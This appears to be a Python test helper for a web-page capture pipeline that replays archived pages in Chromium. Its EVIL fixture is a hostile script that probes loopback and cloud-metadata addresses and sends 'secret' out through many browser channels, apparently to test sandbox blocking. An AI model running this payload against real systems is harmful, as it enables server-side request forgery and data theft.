"""A site whose pages scripts build, scripts that mean harm, and ways to see what a browser did."""

import io
import json
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from playwright.sync_api import Route, sync_playwright
from warcio.archiveiterator import ArchiveIterator

from tests.provenance.capture.loopback import STORY, Site

CHROMIUM = Path("/usr/bin/chromium")
SHELL = b"""<!doctype html><html lang="en"><head><title>Eastbank Echo</title>
<link rel="stylesheet" href="/style.css"></head>
<body><div id="root"></div><script src="/app.js"></script></body></html>"""
APP = b"""
const grow = async () => {
  const story = await (await fetch('/story.json')).json();
  document.title = story.title;
  const article = document.createElement('article');
  article.innerHTML = '<h1>' + story.title + '</h1>' + story.body;
  document.getElementById('root').append(article);
};
grow();
"""


def put_app(site: Site, app: bytes = APP, body: str = STORY) -> str:
    story = json.dumps({"title": "One of three wells closed", "body": body})
    site.put("/app.js", app, Content_Type="text/javascript")
    site.put("/style.css", b"h1 { color: teal }", Content_Type="text/css")
    site.put("/story.json", story.encode(), Content_Type="application/json")
    return site.put("/wells", SHELL)


def records(packed: bytes) -> dict[str, tuple[str, str, bytes]]:
    """Address -> kind, media type, payload."""
    found = {}
    for record in ArchiveIterator(io.BytesIO(packed), check_digests="raise"):
        head = record.http_headers or record.rec_headers
        kind = head.get_header("Content-Type") or ""
        address = record.rec_headers.get_header("WARC-Target-URI")
        found[address] = (record.rec_type, kind, record.content_stream().read())
    return found


@contextmanager
def spy() -> Iterator[tuple[int, list[str]]]:
    """A port on this machine that notes every connection and what was said over it."""
    heard: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    caller, _ = server.accept()
                except TimeoutError:
                    continue
                with caller:
                    caller.settimeout(0.5)
                    try:
                        heard.append(caller.recv(200).decode("latin-1"))
                    except TimeoutError:
                        heard.append("")

        thread = threading.Thread(target=listen)
        thread.start()
        yield server.getsockname()[1], heard
        over.set()
        thread.join()


def replayed(packed: bytes, address: str) -> str:
    """What a browser without any network shows, given nothing but the records."""
    kept = records(packed)

    def answer(route: Route) -> None:
        if route.request.url in kept:
            _, kind, body = kept[route.request.url]
            route.fulfill(status=200, content_type=kind, body=body)
        else:
            route.abort()

    def look() -> str:
        with sync_playwright() as playwright:
            chromium = playwright.chromium.launch(
                executable_path=str(CHROMIUM), args=["--no-sandbox"]
            )
            tab = chromium.new_page()
            tab.route("**/*", answer)
            tab.goto(address)
            tab.wait_for_selector("article")
            shown = tab.inner_text("body")
            chromium.close()
            return shown

    shown: list[str] = []
    thread = threading.Thread(target=lambda: shown.append(look()))
    thread.start()
    thread.join()
    return shown[0]


EVIL = """
const tried = [];
const there = ['http://127.0.0.1:PORT/a', 'http://localhost:PORT/b', 'http://[::1]:PORT/c',
  'http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/', 'http://0.0.0.0:PORT/d',
  'http://2130706433:PORT/e', 'https://127.0.0.1:PORT/f', 'http://HOST/away'];
for (const address of there) {
  tried.push(fetch(address).then(a => a.text()).catch(e => 'refused'));
  const image = new Image(); image.src = address + '?image'; document.body.append(image);
  const frame = document.createElement('iframe'); frame.src = address + '?frame';
  document.body.append(frame);
  const link = document.createElement('link');
  link.rel = 'preconnect'; link.href = address; document.head.append(link);
  const early = document.createElement('link');
  early.rel = 'prefetch'; early.href = address + '?early'; document.head.append(early);
  navigator.sendBeacon(address, 'secret');
  tried.push(fetch(address, {method: 'POST', body: 'secret'}).catch(e => 'refused'));
}
try { new WebSocket('ws://127.0.0.1:PORT/socket'); } catch (e) {}
try { new EventSource('http://127.0.0.1:PORT/events'); } catch (e) {}
try { new WebTransport('https://127.0.0.1:PORT/transport'); } catch (e) {}
try { new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp',
  username: 'a', credential: 'b'}]}).createDataChannel('x'); } catch (e) {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:PORT/worker')"]))); }
catch (e) {}
try { new SharedWorker('data:text/javascript,fetch("http://127.0.0.1:PORT/shared")'); } catch (e) {}
try { navigator.serviceWorker.register('/service.js').catch(() => {}); } catch (e) {}
try { window.open('http://127.0.0.1:PORT/window'); } catch (e) {}
Promise.all(tried).then(answers => {
  const note = document.createElement('p');
  note.textContent = 'Tried: ' + answers.join(' ');
  document.body.append(note);
});
"""


KILLED = """
import django, os, sys
django.setup()
from django.conf import settings
settings.RENDER, settings.CHROMIUM = "unsandboxed", sys.argv[2]
settings.FETCH_ALLOW = frozenset({sys.argv[1].split("/")[2]})
from provenance.capture import pipeline
pipeline.opened(sys.argv[1])
"""


def browsers_of(parent: int) -> list[int]:
    """The Chromium processes below a process, by the table of processes."""
    found, waiting = [], [parent]
    table = subprocess.run(["ps", "-eo", "pid=,ppid=,comm="], capture_output=True, text=True)
    rows = [line.split(None, 2) for line in table.stdout.splitlines()]
    while waiting:
        above = waiting.pop()
        below = [(int(pid), name) for pid, ppid, name in rows if int(ppid) == above]
        waiting += [pid for pid, _ in below]
        found += [pid for pid, name in below if "chrom" in name]
    return found


def within(seconds: float, question: Callable[[], Any]) -> Any:
    """The first true answer to `question`, or the last one when the time is over."""
    end = time.monotonic() + seconds
    while not (answer := question()) and time.monotonic() < end:
        time.sleep(0.1)
    return answer
